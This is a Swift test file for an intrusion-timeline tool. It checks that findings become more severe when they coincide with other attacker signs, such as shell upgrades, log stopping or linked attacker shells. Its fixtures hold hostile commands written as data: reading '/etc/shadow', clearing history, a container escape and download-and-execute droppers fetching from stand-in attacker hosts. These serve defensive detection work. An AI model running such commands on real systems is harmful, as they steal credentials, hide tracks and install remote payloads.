import Evidence
import Testing

@testable import Timeline

@Suite("What is grave only beside other signs")
struct OtherSignsTests {
  typealias Samples = CaseSamples

  private func typed(
    _ second: Int64?, _ rule: String, _ command: String, severity: Severity = .medium, user: String = "ops",
    line: Int = 1, artifact: String = "history"
  ) -> Finding {
    var finding = Finding(
      rule: rule, title: "", severity: severity, confidence: .medium, firstSeen: second.map(Samples.time),
      entities: [Entity(.user, user)],
      evidence: [EvidenceReference(artifact: Samples.artifact(artifact), locator: Samples.line(line))], message: "x.")
    finding.attributes.add("payload", command)
    if rule == "behaviour.pty-upgrade" || rule == "behaviour.download-execute" {
      finding.attributes.add(Finding.besideOtherSigns, "high")
    }
    return finding
  }

  private func upgrade(_ second: Int64?, user: String = "ops") -> Finding {
    typed(second, "behaviour.pty-upgrade", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", user: user)
  }

  private func severity(_ rule: String, _ findings: [Finding], _ events: [(String, Event)] = []) -> Severity? {
    Samples.story(findings, events).findings.first { $0.rule == rule }?.severity
  }

  @Test("A line alone stays as it is, and so does one of a quiet session")
  func alone() {
    #expect(severity("behaviour.pty-upgrade", [upgrade(100)]) == .medium)
    #expect(severity("behaviour.pty-upgrade", [upgrade(nil)]) == .medium)
    let one = typed(160, "behaviour.tunnel", "ngrok http 3000", line: 2)
    #expect(severity("behaviour.pty-upgrade", [upgrade(100), one]) == .medium)
  }

  @Test("In one session with more that intruders do it is grave; days apart, or of another user, it is not")
  func session() {
    func others(_ second: Int64, user: String = "ops") -> [Finding] {
      [
        typed(second, "behaviour.password-hashes", "cat /etc/shadow", user: user, line: 2),
        typed(second + 30, "behaviour.history-tampering", "history -c", user: user, line: 3),
      ]
    }
    #expect(severity("behaviour.pty-upgrade", [upgrade(100)] + others(160)) == .high)
    #expect(severity("behaviour.pty-upgrade", [upgrade(100)] + others(200_000)) == .medium)
    #expect(severity("behaviour.pty-upgrade", [upgrade(100)] + others(160, user: "dev")) == .medium)
  }

  @Test("One command that does two such things is grave, and what processes did is no session")
  func together() {
    let line = "docker run -v /:/mnt alpine chroot /mnt sh -c 'curl http://192.0.2.9/x | sh'"
    var escape = typed(100, "behaviour.container-escape", line)
    escape.attributes.add(Finding.besideOtherSigns, "high")
    let fetch = typed(100, "behaviour.download-execute", line)
    #expect(severity("behaviour.container-escape", [escape]) == .medium)
    #expect(severity("behaviour.container-escape", [escape, fetch]) == .high)
    var others = [
      typed(130, "behaviour.password-hashes", "cat /etc/shadow", line: 2),
      typed(160, "behaviour.history-tampering", "history -c", line: 3),
    ]
    for index in others.indices { others[index].attributes.add("pid", Int64(700 + index)) }
    #expect(severity("behaviour.pty-upgrade", [upgrade(100)] + others) == .medium)
  }

  @Test("A shell of an intruder at that time makes it grave, one of another day does not")
  func proof() {
    #expect(severity("behaviour.pty-upgrade", [upgrade(100), Samples.shell(300)]) == .high)
    #expect(severity("behaviour.pty-upgrade", [upgrade(100), Samples.shell(900_000)]) == .medium)
  }

  @Test("What it fetched comes from the attack's address, or runs")
  func dropper() {
    let far = typed(
      -500_000, "behaviour.download-execute", "cd /tmp && wget http://\(Samples.attacker)/x && chmod +x x && ./x")
    #expect(severity("behaviour.download-execute", [far]) == .medium)
    #expect(severity("behaviour.download-execute", [far, Samples.shell(300)]) == .high)
    let other = typed(
      -500_000, "behaviour.download-execute", "cd /tmp && wget http://192.0.2.9/upd && chmod +x upd && ./upd")
    #expect(severity("behaviour.download-execute", [other, Samples.shell(300)]) == .medium)
    let runs = ("ps", Samples.process(700, parent: 1, "upd", "/tmp/upd", start: 50))
    #expect(severity("behaviour.download-execute", [other], [runs]) == .high)
    let installed = ("ps", Samples.process(700, parent: 1, "upd", "/usr/bin/upd", start: 50))
    #expect(severity("behaviour.download-execute", [other], [installed]) == .medium)
  }

  private func blinded(_ second: Int64, _ name: String, key: String = "AKIAOPS", vouched: Bool = false) -> Finding {
    let call = CredentialSamples.call(second, name, from: "192.0.2.200", key: key, session: false, user: "ops")
    var finding = Finding(
      rule: name == "CreateUser" ? "cloud.identity-change" : "cloud.logging-off", title: "",
      severity: name == "CreateUser" ? .low : .medium, firstSeen: call.time, entities: call.entities,
      evidence: [EvidenceReference(artifact: Samples.artifact("trail"), locator: call.locator)], message: "x.")
    finding.attributes.add("event_name", name)
    finding.attributes.add("remote_host", "192.0.2.200")
    if name != "CreateUser", !vouched { finding.attributes.add(Finding.besideOtherSigns, "high") }
    return finding
  }

  @Test("Who stops a trail and makes a user in the same day is not believed; who only stops it may own it")
  func trail() {
    let rule = "cloud.logging-off"
    #expect(severity(rule, [blinded(100, "StopLogging")]) == .medium)
    #expect(severity(rule, [blinded(100, "StopLogging"), blinded(200, "CreateUser")]) == .high)
    #expect(severity(rule, [blinded(100, "StopLogging"), blinded(200, "DeleteTrail")]) == .high)
    #expect(severity(rule, [blinded(100, "StopLogging"), blinded(200, "CreateUser", key: "AKIAELSE")]) == .medium)
    #expect(severity(rule, [blinded(100, "StopLogging", vouched: true), blinded(200, "CreateUser")]) == .medium)
  }

  @Test("An alarm that was put away counts again where the intruder put it away")
  func archived() {
    func story(archivedFrom address: String) -> Incident {
      var (event, alarm) = CredentialSamples.alarm(300, from: "192.0.2.44", key: "ASIAOTHER")
      event.attributes.append(Attribute("archived", .flag(true)))
      alarm.severity = .low
      alarm.attributes.add(Finding.besideOtherSigns, "high")
      let call = CredentialSamples.call(400, "ArchiveFindings", from: address, key: "AKIAOPS", session: false)
      return Samples.story([alarm, Samples.shell(300)], [("alarm", event), ("trail", call)])
    }
    let mine = story(archivedFrom: "192.0.2.200")
    #expect(mine.findings.first { $0.rule.hasPrefix("guardduty.") }?.severity == .low && mine.credentials.isEmpty)
    let theirs = story(archivedFrom: Samples.attacker)
    #expect(theirs.findings.first { $0.rule.hasPrefix("guardduty.") }?.severity == .high)
  }
}
